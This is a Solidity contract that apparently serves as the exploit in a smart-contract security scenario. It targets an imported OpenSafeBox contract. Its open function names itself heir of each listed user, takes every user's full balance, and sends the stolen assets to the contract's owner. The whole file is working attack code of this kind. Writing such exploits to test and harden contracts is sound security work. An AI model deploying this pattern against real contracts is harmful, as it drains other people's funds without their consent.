// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {OpenSafeBox} from "../scenarios/OpenSafeBox.sol";

/// @title Names itself heir of the richest users and takes what they keep. Waits until its owner calls it.
contract BoxOpener {
    OpenSafeBox private immutable box;
    address private immutable owner;
    address[] private users;

    constructor(OpenSafeBox box_, address[] memory users_) {
        (box, owner, users) = (box_, msg.sender, users_);
    }

    function open() external {
        require(msg.sender == owner, "not you");
        for (uint256 i = 0; i < users.length; i++) {
            box.nameHeir(users[i], address(this));
            box.take(users[i], box.balanceOf(users[i]));
        }
        box.asset().transfer(owner, box.asset().balanceOf(address(this)));
    }
}
